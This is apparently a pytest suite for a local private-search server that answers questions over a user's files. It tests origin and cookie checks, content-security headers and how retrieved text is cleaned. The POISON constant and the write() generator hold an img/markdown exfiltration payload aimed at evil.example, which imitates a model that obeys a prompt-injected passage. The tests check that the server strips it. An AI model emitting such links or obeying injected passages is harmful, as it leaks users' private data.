"""The page's server: who may ask, what the browser is told, what is answered; without a browser."""

from __future__ import annotations

import itertools
import json
import re
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import numpy as np
import pytest

pytest.importorskip("starlette", reason='the page needs: pip install "gemma-embed[search]"')

import uvicorn
from starlette.testclient import TestClient

from private_search.documents import Document
from private_search.files import Folder
from private_search.indexer import Indexer
from private_search.library import Library, Progress
from private_search.projection import Projection
from private_search.server import PAGE, Ask, Desk, application, serve

PORT, SECRET = 8765, "a-secret"
HOME = f"http://127.0.0.1:{PORT}"
POISON = '<img src="https://evil.example/?q=secret"><script>alert(1)</script>'


def write(prompt: str) -> Iterator[str]:
    """A generator that does what a poisoned passage told it to."""
    yield "The night ferry leaves at 20:45 [1]. "
    yield f"Now see ![x](https://evil.example/?q=secret) {POISON} [1]. "


@pytest.fixture(scope="module")
def desk(shelf: Library) -> Iterator[Desk]:
    desk = Desk(lambda: Library(shelf.folder, shelf.embedder.runtime), write)
    yield desk
    desk.close()


@pytest.fixture
def client(desk: Desk) -> Iterator[TestClient]:
    with entered(desk) as client:
        yield client


def entered(desk: Desk) -> TestClient:
    """The page as a browser has it that opened the printed address."""
    app = application(desk, PORT, SECRET)
    return TestClient(app, base_url=HOME + app.room, headers={"cookie": f"private-search={SECRET}"})


def asked(client: TestClient, **body: object) -> list[dict]:
    answer = client.post("/api/ask", json=body, headers={"origin": HOME})
    assert answer.status_code == 200, answer.text
    return [json.loads(line) for line in answer.text.splitlines()]


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({}, 200),
        ({"origin": HOME, "sec-fetch-site": "same-origin"}, 200),
        ({"host": "evil.example"}, 403),
        ({"host": f"evil.example:{PORT}"}, 403),
        ({"host": "127.0.0.1:80"}, 403),
        ({"origin": "http://evil.example"}, 403),
        ({"origin": "null"}, 403),
        ({"origin": f"http://localhost:{PORT}"}, 403),
        ({"sec-fetch-site": "cross-site"}, 403),
        ({"sec-fetch-site": "same-site"}, 403),
        ({"cookie": "private-search=guess"}, 401),
        ({"cookie": ""}, 401),
    ],
)
def test_only_the_page_itself_is_answered(client, headers, status) -> None:
    for path in ("/", "/api/state", "/original/1"):
        assert client.get(path, headers=headers).status_code == status, path


def test_the_printed_address_can_be_opened_at_once(
    shelf: Library, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    opened: list[int] = []

    def run(server: uvicorn.Server, sockets: list[socket.socket]) -> None:
        port = int(capsys.readouterr().out.partition("127.0.0.1:")[2].partition("/")[0])
        socket.create_connection(("127.0.0.1", port), timeout=5).close()
        opened.append(port)

    monkeypatch.setattr(uvicorn.Server, "run", run)
    serve(lambda: Library(shelf.folder, shelf.embedder.runtime), None, 0)
    assert len(opened) == 1


def test_a_post_needs_an_origin(client) -> None:
    assert client.post("/api/update", json={}).status_code == 403


def test_the_secret_becomes_a_cookie_that_no_script_and_no_other_port_gets(desk: Desk) -> None:
    app = application(desk, PORT, SECRET)
    with TestClient(app, base_url=HOME) as client:
        answer = client.get(f"/?secret={SECRET}", follow_redirects=False)
        assert answer.status_code == 303
        assert answer.headers["location"] == app.room
        cookie = answer.headers["set-cookie"]
        assert {"HttpOnly", "SameSite=strict", f"Path={app.room}"} <= set(cookie.split("; "))
        assert client.get(app.room).status_code == 200
        # The cookie alone opens nothing elsewhere, the path alone neither.
        known = {"cookie": f"private-search={SECRET}"}
        assert client.get("/api/state", headers=known).status_code == 401
        client.cookies.clear()
        assert client.get(app.room).status_code == 401
        assert client.get("/?secret=guess").status_code == 401
    assert app.room != application(desk, PORT, SECRET).room


@pytest.mark.parametrize("path", ["/", "/page.js", "/api/state", "/nothing"])
def test_every_answer_forbids_what_is_from_elsewhere(client, path: str) -> None:
    headers = client.get(path).headers
    policy = dict(
        part.strip().split(" ", 1) for part in headers["content-security-policy"].split(";")
    )
    assert policy["default-src"] == "'none'"
    assert {policy[f"{kind}-src"] for kind in ("script", "style", "connect", "img")} == {"'self'"}
    assert policy["require-trusted-types-for"] == "'script'"
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["cache-control"] == "no-store"


def test_the_page_has_no_address_of_another_host_and_makes_no_markup() -> None:
    for path in PAGE.iterdir():
        text = path.read_text("utf-8").replace("http://www.w3.org/2000/svg", "")
        assert not re.search(r"(src|href|url\()\W{0,2}(https?:)?//", text), path
    script = "".join(path.read_text("utf-8") for path in PAGE.glob("*.js"))
    assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(", script)


def test_passages_come_first_then_checked_sentences(client) -> None:
    first, *sentences, last = asked(client, question="When does the night ferry leave?")
    assert first["answerable"]
    assert first["fresh"]
    assert "20:45" in first["hits"][0]["text"]
    assert first["hits"][0]["original"].startswith("original/")
    assert sentences[0] == {"sentence": "The night ferry leaves at 20:45.", "sources": [1]}
    assert "evil.example" not in json.dumps(sentences)
    assert "<" not in json.dumps(sentences)
    assert last == {"done": True}


def test_who_hangs_up_ends_the_writing(shelf: Library) -> None:
    closed = threading.Event()

    def endless(prompt: str) -> Iterator[str]:
        try:
            for number in itertools.count():
                time.sleep(0.2)
                yield f"Sentence {number}. "
        finally:
            closed.set()

    desk = Desk(lambda: Library(shelf.folder, shelf.embedder.runtime), endless)
    with socket.create_server(("127.0.0.1", 0)) as listening:
        port = listening.getsockname()[1]
        app = application(desk, port, SECRET)
        config = uvicorn.Config(app, log_level="error", lifespan="off", ws="none")
        server = uvicorn.Server(config)
        thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]})
        thread.start()
        home = f"http://127.0.0.1:{port}"
        headers = {"origin": home, "cookie": f"private-search={SECRET}"}
        body = {"question": "When does the night ferry leave?"}
        address = f"{home}{app.room}api/ask"
        with httpx.stream("POST", address, json=body, headers=headers, timeout=30) as answer:
            first = next(answer.iter_lines())
        ended = closed.wait(10)
        server.should_exit = True
        thread.join()
    desk.close()
    assert first.startswith('{"hits"')
    assert ended


def test_filters(client) -> None:
    first, *_ = asked(client, question="the roof", kind="page", after="2026-01-01")
    assert {hit["kind"] for hit in first["hits"]} == {"page"}
    assert all(hit["original"].startswith("http") for hit in first["hits"])


def test_both_days_of_a_filter_count() -> None:
    day = Ask(question="x", after="2026-05-01", before="2026-05-01").filter()
    assert day.before - day.after == pytest.approx(86400, abs=1)


@pytest.mark.parametrize(
    ("path", "body", "word"),
    [
        ("ask", {"question": " "}, "question"),
        ("ask", {"question": "x", "kind": "video"}, "kind"),
        ("ask", {"question": "x", "after": "soon"}, "after"),
        ("ask", {"question": "x", "depth": 3}, "depth"),
        ("add", {"kind": "files", "path": "/no/such/folder"}, "/no/such/folder"),
        ("ask", [1], "body"),
    ],
)
def test_what_cannot_be_is_refused(client, path, body, word) -> None:
    answer = client.post(f"/api/{path}", json=body, headers={"origin": HOME})
    assert answer.status_code == 400
    assert word in answer.text


@pytest.mark.parametrize("path", ["original/", "api/passage/", "api/state?units="])
def test_a_number_that_no_database_takes_is_refused(client, path: str) -> None:
    assert client.get(f"/{path}{10**30}").status_code == 400


def test_originals_are_text_or_saved_and_never_markup(client, shelf: Library) -> None:
    # One of each kind of file, one mail and one page.
    chosen = {(found.kind, Path(found.address).suffix if found.kind == "file" else ""): found
              for found in shelf.catalogue.passages()}  # fmt: skip
    assert {".pdf", ".docx", ".html", ".md"} <= {suffix for _, suffix in chosen}
    for (kind, suffix), found in chosen.items():
        answer = client.get(f"/original/{found.number}")
        headers = answer.headers
        if suffix == ".docx":
            assert headers["content-disposition"].startswith("attachment")
        else:
            shown = "application/pdf" if suffix == ".pdf" else "text/plain"
            assert headers["content-type"].startswith(shown)
        if kind != "file":
            assert found.text in answer.text
    assert client.get("/original/999999").status_code == 404


def test_the_map_has_every_passage_and_the_question(client, shelf: Library) -> None:
    body = {"question": "When does the night ferry leave?"}
    got = client.post("/api/map", json=body, headers={"origin": HOME}).json()
    assert len(got["points"]) == got["passages"] == shelf.catalogue.count()
    assert 0 < got["share"] < 1
    assert len(got["question"]) == 2


def test_the_map_is_that_of_a_singular_value_decomposition() -> None:
    vectors = np.random.default_rng(0).normal(size=(40, 8)).astype(np.float32)
    vectors[:, 3] *= 5
    projection = Projection.fitted(list(range(40)), vectors)
    apart = vectors - vectors.mean(axis=0)
    _, values, axes = np.linalg.svd(apart, full_matrices=False)
    assert np.allclose(np.abs(projection.points), np.abs(apart @ axes[:2].T), atol=1e-3)
    assert projection.share == pytest.approx((values[:2] ** 2).sum() / (values**2).sum(), abs=1e-4)


def test_an_empty_library_has_an_empty_map() -> None:
    assert len(Projection.fitted([], np.zeros((0, 8), np.float32)).points) == 0


def test_sources_are_added_reported_and_left_out(opened, tmp_path: Path, bundled) -> None:
    notes = tmp_path / "notes"
    notes.mkdir()
    (notes / "a.md").write_text(f"# The boiler\n\nServiced in May. {POISON}")
    (notes / "b.bin").write_bytes(b"\0")
    opened().close()
    desk = Desk(lambda: Library(tmp_path / "library", bundled), None)
    try:
        with entered(desk) as client:
            body = {"kind": "files", "path": str(notes)}
            name = client.post("/api/add", json=body, headers={"origin": HOME}).json()["name"]
            assert desk.indexer.request(wait=60)
            state = client.get("/api/state?units=9").json()
            assert state["coverage"][0]["documents"] == 1
            assert state["coverage"][0]["units"][0]["reason"] == "no reader for .bin"
            # As it stands there: the page writes it as text.
            (hit,) = asked(client, question="When was the boiler serviced?")[0]["hits"]
            assert POISON in hit["text"]
            client.post("/api/forget", json={"name": name}, headers={"origin": HOME})
            assert desk.indexer.request(wait=60)
            assert asked(client, question="boiler")[0]["hits"] == []
    finally:
        desk.close()


def test_a_file_replaced_by_a_link_is_not_opened(opened, tmp_path: Path, bundled) -> None:
    (tmp_path / "secret.txt").write_text("What nobody may read.")
    note = tmp_path / "notes" / "a.txt"
    note.parent.mkdir()
    note.write_text("A note.")
    library = opened(Folder(note.parent))
    library.update()
    (found,) = library.catalogue.passages()
    library.close()
    desk = Desk(lambda: Library(tmp_path / "library", bundled), None)
    with entered(desk) as client:
        assert client.get(f"/original/{found.number}").text == "A note."
        note.unlink()
        note.symlink_to(tmp_path / "secret.txt")
        answer = client.get(f"/original/{found.number}").text
        assert "A note." in answer
        assert "nobody" not in answer
    desk.close()


def test_an_update_that_fails_says_so_and_the_next_one_works() -> None:
    class Books:
        """A library whose disk fails once."""

        failures = [OSError("disk full")]

        def update(self, progress):
            progress(Progress("reading", 1, 2, 1.0))
            if self.failures:
                raise self.failures.pop()
            return Document  # has no changed

        def close(self) -> None:
            pass

    indexer = Indexer(Books())  # type: ignore[arg-type]
    assert indexer.request(wait=5)
    assert "disk full" in indexer.error
    assert indexer.request(lambda _: None, wait=5)
    assert indexer.error == ""
    indexer.close()
